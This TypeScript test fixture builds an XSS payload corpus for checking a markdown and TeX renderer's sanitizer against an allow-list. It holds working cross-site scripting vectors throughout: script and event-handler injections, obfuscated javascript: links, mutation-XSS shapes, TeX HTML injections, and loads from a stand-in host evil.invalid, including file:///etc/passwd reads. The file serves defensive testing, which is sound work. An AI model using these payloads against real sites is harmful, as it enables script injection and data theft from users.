// What a hostile model could write. Each tries to run `hit()`, or to fetch from `evil.invalid`. The tests hold the rendered DOM against an
// allow-list, so a payload does not need to work in this browser to be useful.

/** Each a trick of its own. */
const TRICKS: readonly string[] = [
  // Elements that run or load at once.
  '<script>hit()</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<SCRIPT/XSS>hit()</SCRIPT>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.invalid/pixel.png">',
  '<img src=x:x onerror\n=hit()>',
  '<image src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text x=20 y=20>click</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=hit()>',
  '<math href="javascript:hit()">click</math>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="https://evil.invalid/"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="https://evil.invalid/x.swf">',
  '<video src=x onerror=hit()></video>',
  '<video poster="https://evil.invalid/p.png"></video>',
  '<audio src="https://evil.invalid/a.mp3" autoplay></audio>',
  '<link rel=stylesheet href="https://evil.invalid/x.css">',
  '<link rel=prefetch href="https://evil.invalid/x">',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/">',
  '<style>@import "https://evil.invalid/x.css";</style>',
  '<style>*{background:url(https://evil.invalid/bg.png)}</style>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<marquee onstart=hit()>x</marquee>',
  '<select autofocus onfocus=hit()></select>',
  '<form action="https://evil.invalid/"><input type=submit></form>',
  '<button formaction="javascript:hit()">click</button>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<div style="background:url(https://evil.invalid/bg.png)">x</div>',
  '<div onpointerover=hit() tabindex=0>x</div>',
  '<p id="app" name="location" class="page">x</p>',
  '<x-element onclick=hit()>x</x-element>',
  '<app-root></app-root>',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[><img src=x onerror=hit()>]]>',
  '<?xml version="1.0"?><img src=x onerror=hit()>',
  '</div></div><script>hit()</script>',
  // Links.
  '[click](javascript:hit())',
  '[click](JaVaScRiPt:hit())',
  '[click](java\nscript:hit())',
  '[click](<javascript:hit()>)',
  '[click](&#106;avascript:hit())',
  '[click](javascript&colon;hit())',
  '[click](\u0001javascript:hit())',
  '[click](vbscript:hit())',
  '[click](data:text/html,<script>hit()</script>)',
  '[click](blob:https://evil.invalid/1)',
  '[click](file:///etc/passwd)',
  '[click](//evil.invalid/)',
  '[click](https://evil.invalid/" onmouseover="hit())',
  "[click](https://evil.invalid/'onclick='hit())",
  '[click](https://evil.invalid/ "title" onclick="hit()")',
  '[click](https://evil.invalid/ "\\" onclick=hit() x=\\"")',
  '[<img src=x onerror=hit()>](https://evil.invalid/)',
  '<javascript:hit()>',
  '<https://evil.invalid/"onclick="hit()>',
  '[a]: javascript:hit()\n\n[a]',
  '[![x](https://evil.invalid/p.png)](javascript:hit())',
  // Images.
  '![x](https://evil.invalid/pixel.png)',
  '![x](javascript:hit())',
  '![x" onerror="hit()](https://evil.invalid/pixel.png)',
  '![<script>hit()</script>](https://evil.invalid/pixel.png)',
  '![x](https://evil.invalid/p.png "t\\" onerror=hit()")',
  '![x](data:image/svg+xml,<svg onload=hit()>)',
  '[![x](https://evil.invalid/p.png)](https://evil.invalid/)',
  // Out of code, tables, headings, entities.
  '```"><img src=x onerror=hit()>\ncode\n```',
  '```html\n</code></pre><script>hit()</script>\n```',
  '``` "onmouseover="hit()\nx\n```',
  '`</code><script>hit()</script>`',
  '|a|b|\n|-|-|\n|<img src=x onerror=hit()>|[x](javascript:hit())|',
  '# <svg onload=hit()>',
  '> <iframe src="javascript:parent.hit()">',
  '- <img src=x onerror=hit()>\n  - <script>hit()</script>',
  '1. [x](javascript:hit())',
  '- [x] <img src=x onerror=hit()>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '\\<script>hit()\\</script>',
  '**<b onclick=hit()>x</b>**',
  '~~<a href="javascript:hit()">x</a>~~',
  '<a href="javascript:hit()">click</a>',
  '<a href="https://evil.invalid/" target=_self ping="https://evil.invalid/ping">x</a>',
];

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbeforematch',
  'onscrollend',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'object data=x',
  'math',
  'a',
  'x-y',
];
/** Ways to write a start tag that parsers take and filters overlook. */
const TAGS: readonly ((element: string, attribute: string) => string)[] = [
  (element, attribute) => `<${element} ${attribute}=hit()>`,
  (element, attribute) => `<${element.toUpperCase()}/${attribute}="hit()"//`,
  (element, attribute) => `<${element}\n${attribute}\t=\n'hit()'>`,
];

/** How a scheme that must not be reached is written. */
const ADDRESSES = [
  ...[
    'javascript:hit()',
    'JAVASCRIPT:hit()',
    'java\tscript:hit()',
    ' javascript:hit()',
    '\u0000javascript:hit()',
    'javascript\u00ad:hit()',
  ],
  ...[
    '&#x6A;avascript:hit()',
    '&#106avascript:hit()',
    'javascript&#58;hit()',
    'javascript&colon;hit()',
    'java&Tab;script:hit()',
  ],
  ...[
    'javascript:%68it()',
    'javascript://%0ahit()',
    'javascript:/*https:*/hit()',
    'vbscript:hit()',
    'livescript:hit()',
    'view-source:x',
  ],
  ...[
    'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=hit()>',
  ],
  ...[
    'blob:https://evil.invalid/1',
    'file:///etc/passwd',
    'filesystem:https://evil.invalid/x',
    'intent://evil.invalid#Intent;end',
    'ms-x:hit()',
  ],
];
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}> "t")`,
  (address) => `![a](${address})`,
  (address) => `<${address}>`,
  (address) => `[![b](${address})](${address})`,
  (address) => `[a]: ${address}\n\n[a] and [b][a]`,
];

/** Shapes that change their meaning when markup is written and parsed again. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img src onerror=hit()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  '<math><maction actiontype="statusline#https://evil.invalid" xlink:href="javascript:hit()">x</maction></math>',
  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg><desc><template><img src=x onerror=hit()></template></desc></svg>',
  '<svg></p><style><a title="</style><img src onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<noscript><style></noscript><img src=x onerror=hit()></style>',
  '<table><td><select><iframe></select><img src=x onerror=hit()>',
  '<title><a id="</title><img src=x onerror=hit()>">',
  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  '<textarea><img title="</textarea><img src=x onerror=hit()>">',
  '<plaintext><img src=x onerror=hit()>',
  '<template shadowrootmode=open><img src=x onerror=hit()></template>',
  '<a href="\u2028javascript:hit()">x</a>',
  '<a id=defaultView name=document><img name=getElementById>',
];
const SURROUNDINGS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `**${payload}**`,
  (payload) => `\`${payload}\``,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `\`\`\`${payload}\nx\n\`\`\`\n`,
  (payload) => `|a|\n|-|\n|${payload}|`,
  (payload) => `> - ${payload}`,
  (payload) => `$${payload}$`,
  (payload) => `\\[\\text{${payload}}\\]`,
];

/** What TeX has for pages and for scripts, and what would never end. */
const FORMULAS = [
  ...[
    '\\href{javascript:hit()}{x}',
    '\\url{javascript:hit()}',
    '\\href{https://evil.invalid/}{x}',
    '\\includegraphics{https://evil.invalid/p.png}',
  ],
  ...[
    '\\class{block}{x}',
    '\\id{app}{x}',
    '\\data{a=b}{x}',
    '\\style{background:url(https://evil.invalid/b.png)}{x}',
    '\\htmlStyle{color:red}{x}',
  ],
  ...[
    '\\htmlData{onclick=hit()}{x}',
    '\\html{<img src=x onerror=hit()>}',
    '\\unicode{x3c}script',
    '\\text{<script>hit()</script>}',
  ],
  ...[
    '\\color{red;background:url(https://evil.invalid/c.png)}x',
    '\\textcolor{"onclick=hit()}{x}',
    '\\colorbox{url(https://evil.invalid/d)}{x}',
  ],
  ...[
    '\\def\\a{\\a\\a}\\a',
    '\\newcommand{\\b}{\\b\\b}\\b',
    '\\rule{99999em}{99999em}',
    '\\hspace{-9999em}x',
    '\\require{html}x',
    '\\input{/etc/passwd}',
  ],
  ...[
    '\\tag{<img src=x onerror=hit()>}x',
    '\\label{"><img src=x onerror=hit()>}x',
    '\\ref{javascript:hit()}',
    '\\error',
    '{',
    '\\left(',
    '\\begin{array}{c}',
  ],
];

const products = (...[first = [], ...rest]: readonly (readonly string[])[]): readonly (readonly string[])[] =>
  rest.length === 0
    ? first.map((item) => [item])
    : first.flatMap((item) => products(...rest).map((others) => [item, ...others]));

/** Every combination. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...TRICKS,
    ...TAGS.flatMap((tag) => products(ELEMENTS, EVENTS).map(([element = '', event = '']) => tag(element, event))),
    ...LINKS.flatMap((link) => ADDRESSES.map(link)),
    ...SURROUNDINGS.flatMap((around) => MUTATIONS.map(around)),
    ...FORMULAS.flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`, `\\(${tex}\\)`]),
  ]),
];
